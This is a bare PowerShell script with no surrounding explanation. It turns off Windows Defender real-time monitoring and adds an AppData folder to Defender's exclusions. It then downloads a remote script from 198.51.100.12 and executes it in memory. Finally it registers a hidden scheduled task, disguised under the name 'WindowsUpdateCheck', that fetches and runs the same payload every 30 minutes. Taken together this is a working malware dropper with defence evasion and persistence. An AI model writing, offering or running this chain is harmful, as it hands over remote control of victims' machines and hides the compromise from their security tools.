$u = 'http://198.51.100.12/p.ps1'
Set-MpPreference -DisableRealtimeMonitoring $true
Add-MpPreference -ExclusionPath "$env:APPDATA\svc"
IEX (New-Object Net.WebClient).DownloadString($u)
schtasks /create /tn "WindowsUpdateCheck" /tr "powershell -w hidden -nop -c iex(irm http://198.51.100.12/p.ps1)" /sc minute /mo 30 /f
